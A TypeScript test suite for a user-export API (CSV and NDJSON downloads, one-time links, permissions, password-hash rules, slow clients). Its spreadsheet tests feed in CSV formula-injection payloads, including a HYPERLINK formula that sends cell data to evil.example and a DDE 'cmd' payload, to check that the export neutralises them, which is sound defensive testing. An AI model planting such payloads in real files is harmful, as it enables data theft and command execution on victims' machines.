import { type ClientRequest, get, type IncomingMessage } from 'node:http';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { unguarded } from '../../src/users/transfer/files/csv-cells';
import { propertiesOf } from '../support/contract/document';
import { importCsv, importRow, importRows } from '../support/data/imports';
import { createKey } from '../support/data/keys';
import { inTransaction } from '../support/locks';
import { codeOf, type TestAnswer, type TestLogin, TestService } from '../support/service';
import { changeSession } from '../support/data/session-rows';
import { until } from '../support/until';

const notExported = [
  ...['email_pending', 'online', 'second_factors', 'second_factor_required_from', 'must_enroll_second_factor'],
  ...['created_by', 'updated_at', 'locked_until', 'deleted_at', 'version'],
];
/** The columns of an export: the fields of a response in their order. */
const columns = Object.keys(propertiesOf('UserResponse')).filter((name) => !notExported.includes(name));
const instant = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;

/** Returns the parts of a file that another list separator or a broken quote makes formulas. */
const formulasIn = (text: string) => text.split(/[;\t\r\n]/).filter((part) => /^["]*[=+\-@＝＋－＠]/.test(part));
const rowsOf = (text: string) => parse(text, { columns: true }) as unknown as Record<string, string>[];

describe('the export of users', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await TestService.start();
    await service.rows(`insert into roles (name, user_types, permissions) values
      ('exporter', '{system,carrier}', '{user:export}'), ('purger', '{system}', '{user:export,user:purge}')`);
  });
  afterAll(() => service.close());

  const exporter = (fields: object = {}) => service.loginAs({ user_type: 'system', roles: ['exporter'], ...fields });
  const csv = (query: string, token = service.admin.token) => service.get(`/user/export?${query}`, { token });
  const lines = async (query: string, token = service.admin.token): Promise<Record<string, unknown>[]> => {
    const { status, text } = await service.get(`/user/export?format=ndjson${query}`, { token });
    expect([status, text === '' || text.endsWith('\n')]).toEqual([200, true]);
    return text
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Record<string, unknown>);
  };
  const events = async (actor_id: string) =>
    (await service.get(`/audit/list?event_type=user.exported&actor_id=${actor_id}&order_dir=asc`, service.admin)).body
      .items;

  it('writes CSV with a header, one line per user, every column and times in UTC', async () => {
    const fields = {
      first_name: 'Ada, "the first"',
      last_name: 'Lovelace',
      phone: '+4312345678',
      job_title: '=Head, of "Operations"',
      locale: 'en-GB',
      timezone: 'Europe/London',
      roles: ['carrier_user', 'carrier_administrator'],
      allowed_ips: ['10.0.0.0/8', '2001:db8::1'],
      attributes: { tier: 'gold', note: 'two\nlines', n: 1.5, nested: { deep: [null, true] } },
    };
    const { user_id, name } = await service.createUser(fields);
    const { status, headers, text } = await csv(`user_id=${user_id}`);
    expect([status, headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="users-\d{8}T\d{6}Z\.csv"$/);
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text).toContain('"Ada, ""the first"""');
    const [header, ...rows] = parse(text);
    expect([header, rows.length]).toEqual([columns, 1]);
    const cell = rowsOf(text)[0] ?? {};
    expect(cell).toMatchObject({
      ...{ user_id, user_type: 'carrier', name, email: `${name}@example.com`, carrier_id: 'c1', status: 'active' },
      ...{ first_name: fields.first_name, phone: `'${fields.phone}`, job_title: `'${fields.job_title}` },
      ...{ locale: 'en-GB', must_change_password: 'false', carrier_scope: '', email_verified_at: '' },
      ...{ roles: 'carrier_administrator;carrier_user', allowed_ips: '10.0.0.0/8;2001:db8::1/128' },
      ...{ created_at: expect.stringMatching(instant), password_changed_at: expect.stringMatching(instant) },
    });
    expect(JSON.parse(cell['attributes'] ?? '')).toEqual(fields.attributes);
  });

  it('writes the users of the API as NDJSON, without secrets', async () => {
    const { user_id } = await service.loginAs({ first_name: 'Zoë' });
    const { body } = await service.get(`/user/${user_id}`, service.admin);
    expect(await lines(`&user_id=${user_id}`)).toEqual([
      Object.fromEntries(columns.map((column) => [column, body[column]])),
    ]);
  });

  it('filters like a list, and without a filter exports every user who is not deleted', async () => {
    const { user_id } = await service.createUser({ carrier_id: 'found' });
    await service.createUser({ carrier_id: 'found', first_name: 'Deleted' });
    await service.delete('/user/all?first_name=Deleted', service.admin);
    expect((await lines('&carrier_id=found')).map((user) => user['user_id'])).toEqual([user_id]);
    expect(await lines('&carrier_id=nowhere')).toEqual([]);
    expect((await csv('carrier_id=nowhere')).text).toBe(`${columns.join(',')}\r\n`);
    const all = await service.rows('select 1 from users where deleted_at is null');
    expect(await lines('')).toHaveLength(all.length);
  });

  it('exports more users than one batch holds, each once, ordered by id', async () => {
    await service.rows(`
      insert into users (user_id, user_type, name, email, carrier_id, status)
      select uuid_v7(), 'carrier', 'many-' || i, 'many-' || i || '@example.com', 'many', 'invited'
      from generate_series(1, 1234) i`);
    const ids = (await lines('&carrier_id=many')).map((user) => String(user['user_id']));
    expect([ids.length, new Set(ids).size]).toEqual([1234, 1234]);
    expect(ids).toEqual([...ids].sort());
    expect(parse((await csv('carrier_id=many')).text)).toHaveLength(1235);
    await service.rows(`delete from users where carrier_id = 'many'`);
  });

  it('rejects wrong parameters before it sends anything, also in a link', async () => {
    for (const [query, parameter, code] of [
      ['format=xml', 'format', 'parameter.malformed'],
      ['hashes=true', 'hashes', 'parameter.conflict'],
      ['name=a&name=b', 'name', 'parameter.malformed'],
      ['per_page=10', 'per_page', 'parameter.unknown'],
      ['deleted=true', 'deleted', 'parameter.unknown'],
    ] as const) {
      const link = await service.post(`/user/export/link?${query}`, service.admin);
      for (const { status, body } of [await csv(query), link])
        expect([query, status, body.errors]).toMatchObject([query, 400, [{ parameter, code }]]);
    }
  });

  it.each([
    ['csv', 'text/csv', '"'],
    ['csv', 'text/csv', ';='],
    ['ndjson', 'application/x-ndjson', '"'],
  ])('holds the longest user in one row, which can be imported again: %s (%s) of %s', async (format, type, filler) => {
    const carrier_scope = Array.from({ length: 1_000 }, (_, i) => `carrier-${i}-`.padEnd(64, 'x'));
    const attributes = { filler: filler.repeat(8_150) };
    const { user_id } = await service.createUser({ user_type: 'system', attributes });
    // More than one request body can contain.
    await service.rows('update users set carrier_scope = $2 where user_id = $1', [user_id, carrier_scope]);
    const { text } = await csv(`user_id=${user_id}&format=${format}`);
    await service.rows('delete from users where user_id = $1', [user_id]);
    // As in another installation, where this id does not exist.
    await service.rows('delete from user_tombstones');
    const headers = { 'content-type': type };
    const { body } = await service.post('/user/import', { ...service.admin, body: text, headers });
    expect([body.changed, body.skipped]).toEqual([1, []]);
    const made = await service.rows('select carrier_scope, attributes from users where user_id = $1', [user_id]);
    expect(made).toEqual([{ carrier_scope, attributes }]);
  });

  it('restores the same users by export, purge and import, with any names', async () => {
    const text = fc.string({ unit: fc.constantFrom(...`'"=+-@,; aé😀＝`), maxLength: 12 });
    const value = fc.oneof(
      text,
      fc.string({ unit: fc.constantFrom('\n', '\r', '\t', '"', '\\', "'") }),
      fc.double({ min: -1e6, max: 1e6, noNaN: true }),
      fc.boolean(),
    );
    const attributes = fc.dictionary(fc.constantFrom('a', '=b', '"'), value);
    const people = fc.sample(fc.record({ first_name: text, last_name: text, attributes }), 40);
    const fields = { allowed_ips: ['10.1.2.3/8'], roles: ['carrier_user'], carrier_id: 'round' };
    const rows = people.map((person, i) => importRow(`-round-${i}`, { ...person, ...fields }));
    expect((await importRows(service, rows, service.admin)).body.changed).toBe(40);
    await service.loginAs({ carrier_id: 'round', first_name: '=1', phone: '+4312345678' });
    const state = () =>
      service.rows(`
        select
          to_jsonb(users) - '{created_by,updated_at,version,search_text}'::text[] as u,
          user_logins.last_login_at, user_logins.last_login_ip,
          (select password_hash from credentials where credentials.user_id = users.user_id) as hash
        from users
        join user_logins using (user_id)
        where carrier_id = 'round'
        order by user_id`);
    const unchanged = (file: string) => file;
    // As a spreadsheet with another list separator saves it again.
    const resaved = (file: string) =>
      `\ufeff${parse(file)
        .map((row) => row.map((cell) => (/[;"\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(';'))
        .join('\r\n')}\r\n`;
    for (const [format, type, saved] of [
      ['ndjson&hashes=true', 'application/x-ndjson', unchanged],
      ['csv', 'text/csv', unchanged],
      ['csv', 'text/csv', resaved],
    ] as const) {
      const before = await state();
      const { text: file } = await csv(`carrier_id=round&format=${format}`);
      await service.rows(`delete from users where carrier_id = 'round'`);
      await service.rows('delete from user_tombstones');
      const request = { ...service.admin, body: saved(file), headers: { 'content-type': type } };
      const { body } = await service.post('/user/import', request);
      expect([body.changed, body.skipped]).toEqual([before.length, []]);
      // A user without a password hash is not active.
      const invited = before.map(({ u, ...rest }) => ({
        ...rest,
        u: { ...(u as object), status: 'invited' },
        hash: null,
      }));
      expect(await state()).toEqual(format === 'csv' ? invited : before);
    }
  });

  describe('as a spreadsheet', () => {
    it('writes any text as one cell that is no formula, and imports it unchanged (O10)', async () => {
      const nasty = fc.string({ unit: fc.constantFrom(...`'"=+-@\t\r\n,; a＝＋－＠é😀`), maxLength: 8 });
      const any = fc.string({ unit: 'binary', maxLength: 20 }).filter((text) => !text.includes('\0'));
      const known = [
        '=HYPERLINK("http://evil.example/?"&A1)',
        '+1+1',
        '-1',
        '@SUM(A1)',
        "'=1",
        "''+1",
        '＝1+1',
        '=1,"2"',
      ];
      const texts = [...known, ...fc.sample(fc.oneof(nasty, any), 1_000)];
      const cells = await service.rows<{ cell: string }>(
        'select csv_cell(value) as cell from unnest($1::text[]) value',
        [texts],
      );
      cells.forEach(({ cell }, index) => {
        const [row] = cell === '' ? [['']] : parse(`${cell},end\r\n`);
        const shown = row?.[0] ?? '';
        expect(shown).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect([cell, unguarded(shown)]).toEqual([cell, texts[index]]);
        // A spreadsheet with another list separator splits the line elsewhere.
        expect([cell, formulasIn(`x,${cell},end`)]).toEqual([cell, []]);
      });
      const { user_id } = await service.createUser({ first_name: '=1,"2"', last_name: "O'Neill" });
      const [row] = rowsOf((await csv(`user_id=${user_id}`)).text);
      expect(row).toMatchObject({ first_name: `'=1,"2"`, last_name: "O'Neill" });
    });

    it.each(["a;=cmd|' /C calc'!A0;b", 'a\t=1+1\tb', 'a;"=1+1";b', "a;'=1;b"])(
      'guards %j within a cell of an export and of failed rows, and imports it unchanged (O10)',
      async (text) => {
        const attributes = { note: text };
        const { user_id, name } = await service.createUser({ attributes });
        const file = (await csv(`user_id=${user_id}`)).text;
        const [exported] = rowsOf(file);
        expect([exported?.['name'], formulasIn(file.slice(file.indexOf('\n') + 1))]).toEqual([name, []]);
        expect(JSON.parse(exported?.['attributes'] ?? '')).toEqual(attributes);

        const failed = (operation_id: string, accept: string) =>
          service.get(`/user/operation/${operation_id}/skipped`, { ...service.admin, headers: { accept } });
        const row = { user_type: 'carrier', name: text, last_name: text, attributes };
        const { operation_id } = (await importRows(service, [row], service.admin)).body;
        const kept = (await failed(operation_id, 'text/csv')).text;
        expect(formulasIn(kept.slice(kept.indexOf('\n') + 1))).toEqual([]);
        const again = (await importCsv(service, kept, service.admin)).body.operation_id as string;
        for (const id of [operation_id, again])
          expect((await failed(id, 'application/json')).body.items[0].cells).toMatchObject({
            ...{ name: text, last_name: text, attributes: JSON.stringify(attributes) },
          });
      },
    );
  });

  describe('in scope and with hashes', () => {
    it('exports only users in scope, and records the event for the carrier of the caller (Z4)', async () => {
      const mine = await service.createUser({ carrier_id: 'c1' });
      await service.createUser({ carrier_id: 'c2' });
      for (const [login, carrier_id] of [
        [await service.loginAs({ carrier_id: 'c1', roles: ['exporter'] }), 'c1'],
        [await exporter({ carrier_scope: ['c1'] }), null],
      ] as const) {
        const rows = rowsOf((await csv('', login.token)).text);
        expect(rows.map((row) => row['user_id'])).toContain(mine.user_id);
        const outside = rows.filter((row) => row['carrier_id'] !== 'c1' && row['user_id'] !== login.user_id);
        expect(outside).toEqual([]);
        const recorded = `select carrier_id from events where event_type = 'user.exported' and actor_id = $1`;
        expect(await service.rows(recorded, [login.user_id])).toEqual([{ carrier_id }]);
      }
    });

    it('exports hashes only with user:purge and on request, regardless of other parameters (P10)', async () => {
      for (const format of ['csv', 'ndjson'])
        expect((await csv(`format=${format}`)).text).not.toMatch(/argon2|password_hash/);
      const { token } = await exporter();
      for (const query of ['format=ndjson&hashes=true', 'hashes=true&nmae=1', 'format=csv&hashes=true']) {
        const { status, body } = await csv(query, token);
        expect([query, status, body.code]).toEqual([query, 403, 'access.denied']);
      }
      expect((await csv('format=ndjson', token)).status).toBe(200);
    });

    it('exports no hash of a user that the caller may not change, and records the export (P10)', async () => {
      const { token, user_id } = await exporter({ roles: ['purger'] });
      const other = await service.createUser({ roles: ['carrier_user'] });
      const stronger = await service.createUser({ roles: ['carrier_administrator', 'carrier_user'] });
      const users = await lines('&hashes=true', token);
      const hashes = new Map(users.map((user) => [user['user_id'], user['password_hash']]));
      for (const id of [other.user_id, user_id]) expect(hashes.get(id)).toMatch(/^\$argon2id\$/);
      for (const id of [stronger.user_id, service.admin.user_id]) expect(hashes.get(id)).toBeNull();
      expect(await events(user_id)).toMatchObject([
        { changes: { hashes: { after: true }, count: { after: hashes.size } } },
      ]);
    });
  });

  describe('by a link', () => {
    const linkOf = async ({ token }: TestLogin, query = ''): Promise<string> => {
      const { status, body } = await service.post(`/user/export/link?${query}`, { token });
      expect(status).toBe(201);
      return new URL(body.url as string).pathname;
    };
    /** Returns the ids in a CSV file. */
    const idsIn = ({ text }: TestAnswer) => rowsOf(text).map((row) => row['user_id']);
    const invalid = '404 export.link_invalid';

    it('downloads the file of the export once, without an access token, and records the event (R9)', async () => {
      const login = await exporter();
      const { name, user_id } = await service.createUser({ first_name: 'Zoë' });
      const query = `user_id=${user_id}&format=ndjson`;
      const { body } = await service.post(`/user/export/link?${query}`, { token: login.token });
      expect(body.url).toMatch(/^http:\/\/localhost:3000\/user\/export\/[\w-]{43}$/);
      const [times] = await service.rows(
        `select expires_at - now() between '1s' and '60s' as soon from export_links where session_id = $1`,
        [login.session_id],
      );
      expect(times).toEqual({ soon: true });
      const path = new URL(body.url as string).pathname;
      const file = await service.get(path, { ip: '198.51.100.7' });
      expect(file.headers).toMatchObject({
        'content-type': 'application/x-ndjson; charset=utf-8',
        'content-disposition': expect.stringMatching(/^attachment; filename="users-\d{8}T\d{6}Z\.ndjson"$/),
        'cache-control': 'no-store',
        'referrer-policy': 'no-referrer',
      });
      expect(file.text).toContain(`"name":"${name}"`);
      expect(file.text).toBe((await csv(query, login.token)).text);
      expect(codeOf(await service.get(path))).toBe(invalid);
      const again = await service.get(path, login);
      expect(codeOf(again)).toBe(invalid);
      expect(again.body.instance).toBe('/user/export/{token}');
      expect((await service.post('/user/export/link')).body.instance).toBe('/user/export/link');
      const changes = {
        ...{ count: { after: 1 }, format: { after: 'ndjson' }, hashes: { after: false } },
        filter: { after: ['user_id'] },
      };
      expect(await events(login.user_id)).toMatchObject([
        { ip: '198.51.100.7', session_id: login.session_id, changes },
        { ip: '127.0.0.1', session_id: login.session_id, changes },
      ]);
    });

    it('downloads the file once when 20 connections use the link at the same time (R10)', async () => {
      const path = await linkOf(await exporter());
      const answers = await Promise.all(Array.from({ length: 20 }, () => service.inject(path)));
      const found = answers.filter(({ body }) => body.includes(service.admin.user_id));
      expect(found.map(({ statusCode }) => statusCode)).toEqual([200]);
      expect(answers.filter(({ statusCode }) => statusCode === 404)).toHaveLength(19);
    });

    it('stays valid when other methods or changed paths are requested (R19)', async () => {
      const path = await linkOf(await exporter());
      for (const method of ['HEAD', 'OPTIONS', 'POST', 'DELETE'])
        expect([method, (await service.inject({ method, url: path })).statusCode]).toEqual([method, 405]);
      for (const changed of [`${path}x`, path.slice(0, -1), `${path}/`, `${path}?a=1`])
        expect((await service.get(changed)).status).not.toBe(200);
      expect((await service.get(path)).status).toBe(200);
    });

    it('is rejected after 60 seconds, and after a newer one (R12, R13)', async () => {
      const login = await exporter();
      const path = await linkOf(login);
      await service.rows(`update export_links set expires_at = expires_at - interval '60s' where session_id = $1`, [
        login.session_id,
      ]);
      expect(codeOf(await service.get(path))).toBe(invalid);
      const [older, newer] = [await linkOf(login), await linkOf(login)];
      expect(codeOf(await service.get(older))).toBe(invalid);
      expect((await service.get(newer)).status).toBe(200);
    });

    it('is rejected after the logout, and after the user is disabled (S2)', async () => {
      const disable = { ...service.admin, body: { status: 'disabled' } };
      for (const end of [
        ({ token }: TestLogin) => service.post('/auth/logout', { token }),
        ({ user_id }: TestLogin) => service.patch(`/user/${user_id}`, disable),
      ]) {
        const login = await exporter();
        const path = await linkOf(login);
        expect((await end(login)).status).toBeLessThan(300);
        expect(codeOf(await service.get(path))).toBe(invalid);
      }
    });

    it('exports what the user may export when the link is used, not when it was created (Z4)', async () => {
      const mine = await service.createUser({ carrier_id: 'c1' });
      const other = await service.createUser({ carrier_id: 'c2' });
      const query = `user_id_in=${mine.user_id},${other.user_id}`;
      const inScope = await exporter({ user_type: 'carrier', carrier_id: 'c1' });
      expect(idsIn(await service.get(await linkOf(inScope, query)))).toEqual([mine.user_id]);

      const narrowed = await exporter();
      const change = async (body: object) =>
        expect(await service.patch(`/user/${narrowed.user_id}`, { ...service.admin, body })).toMatchObject({
          status: 200,
        });
      const path = await linkOf(narrowed, query);
      await change({ carrier_scope: ['c2'] });
      expect(idsIn(await service.get(path))).toEqual([other.user_id]);
      const demoted = await linkOf(narrowed, query);
      await change({ roles: [] });
      expect(codeOf(await service.get(demoted))).toBe('403 access.denied');
      await change({ roles: ['exporter'] });
      expect(codeOf(await service.get(demoted))).toBe(invalid);
    });

    it('requires user:purge and a fresh authentication for hashes, again when the link is used (P10)', async () => {
      const query = 'format=ndjson&hashes=true';
      const create = async ({ token }: TestLogin) =>
        codeOf(await service.post(`/user/export/link?${query}`, { token }));
      expect(await create(await exporter())).toBe('403 access.denied');
      const login = await exporter({ roles: ['purger'] });
      expect((await service.get(await linkOf(login, query))).text).toContain('"password_hash":"$argon2id$');
      const path = await linkOf(login, query);
      await changeSession(service, login, `auth_time = now() - interval '10 minutes'`);
      expect(codeOf(await service.get(path))).toBe('401 auth.reauthentication_required');
      expect(await create(login)).toBe('401 auth.reauthentication_required');
    });

    it('is not created for API keys or without the permission (Z2)', async () => {
      const { key } = await createKey(service, ['*']);
      for (const token of [key, (await service.loginAs({ user_type: 'system' })).token])
        expect(codeOf(await service.post('/user/export/link', { token }))).toBe('403 access.denied');
    });

    it('stores no token, and its filters are removed once it has expired (R21)', async () => {
      const login = await exporter();
      const path = await linkOf(login, 'email=someone%40example.com');
      const stored = () =>
        service.rows('select export_links::text as row from export_links where session_id = $1', [login.session_id]);
      const [row] = await stored();
      expect(row?.['row']).toContain('someone@example.com');
      expect(row?.['row']).not.toContain(path.split('/').at(-1));
      await service.rows('update export_links set expires_at = now()');
      await service.rows(`select graphile_worker.add_job('remove-expired-export-links')`);
      await until(async () => (await stored()).length === 0);
    });
  });

  describe('to slow and interrupted clients', () => {
    const snapshots = `
      select pid
      from pg_stat_activity
      where datname = current_database() and application_name = 'carrier-identity snapshot'`;
    const under: ClientRequest[] = [];
    beforeAll(() =>
      // More data than all buffers between service and client hold.
      service.rows(`
        insert into users (user_id, user_type, name, email, carrier_id, status, attributes)
        select
          uuid_v7(), 'carrier', 'big-' || i, 'big-' || i || '@example.com', 'big', 'invited',
          jsonb_build_object('pad', repeat('x', 10000))
        from generate_series(1, 2500) i`),
    );
    afterEach(async () => {
      under.splice(0).forEach((request) => request.destroy());
      await closed();
    });

    const closed = () => until(async () => (await service.rows(snapshots)).length === 0);
    const administrator = () => service.loginAs({ user_type: 'system', roles: ['administrator'] });
    /** Requests an export and reads only the head of the response. */
    function begin(query = 'format=ndjson', token = service.admin.token): Promise<IncomingMessage> {
      return new Promise((resolve, reject) => {
        const headers = { authorization: `Bearer ${token}` };
        const request = get(`${service.url}/user/export?${query}`, { headers, agent: false }, resolve);
        under.push(request.on('error', reject));
      });
    }

    it('leaves no query and no connection behind when a client disconnects, also before the first line', async () => {
      const answer = await begin();
      expect([answer.statusCode, await service.rows(snapshots)]).toEqual([200, [expect.anything()]]);
      answer.destroy();
      await closed();
      await inTransaction(service, async (lock) => {
        await lock.query('lock table credentials in access exclusive mode');
        const lost = begin('format=ndjson&hashes=true').catch(() => 'disconnected');
        await until(async () => (await service.rows(`${snapshots} and wait_event_type = 'Lock'`)).length === 1);
        under.forEach((request) => request.destroy());
        expect(await lost).toBe('disconnected');
        await closed();
      });
    });

    it('is limited to one per user with their API keys, and rejected for a third user (D30)', async () => {
      const { key } = await createKey(service, ['user:export']);
      const [other, third] = [await administrator(), await administrator()];
      const held = await begin();
      expect(held.statusCode).toBe(200);
      const { body } = await service.post('/user/export/link', service.admin);
      expect((await service.get(new URL(body.url as string).pathname)).status).toBe(429);
      for (const token of [service.admin.token, key]) {
        const second = await begin('carrier_id=nowhere', token);
        expect([second.statusCode, second.headers['retry-after']]).toEqual([429, '5']);
        expect(second.headers).toMatchObject({
          'ratelimit-policy': expect.stringContaining('q=1'),
          ratelimit: expect.stringContaining('r=0'),
        });
      }
      expect((await begin('format=csv', other.token)).statusCode).toBe(200);
      const rejected = await begin('format=csv', third.token);
      expect([rejected.statusCode, rejected.headers['retry-after']]).toEqual([503, '2']);
      expect((await service.get('/user', service.admin)).status).toBe(200);
      held.destroy();
      // The place is free a moment after PostgreSQL has closed the snapshot.
      await until(async () => (await begin()).statusCode === 200);
    });

    it('is limited to one per carrier, so that a second user of the carrier takes no place (D30)', async () => {
      const ofCarrier = { carrier_id: 'big', roles: ['exporter'] };
      const [first, second] = [await service.loginAs(ofCarrier), await service.loginAs(ofCarrier)];
      expect((await begin('format=csv', first.token)).statusCode).toBe(200);
      expect((await begin('format=csv', second.token)).statusCode).toBe(429);
      expect((await begin()).statusCode).toBe(200);
    });

    it('breaks the connection when the database fails, so that no file looks complete', async () => {
      const answer = await begin();
      const ended = new Promise<string>((resolve) =>
        answer.on('end', () => resolve('complete')).on('error', () => resolve('broken off')),
      );
      await service.rows(`select pg_terminate_backend(pid) from (${snapshots}) found`);
      answer.resume();
      expect(await ended).toBe('broken off');
      expect(answer.complete).toBe(false);
    });
  });
});
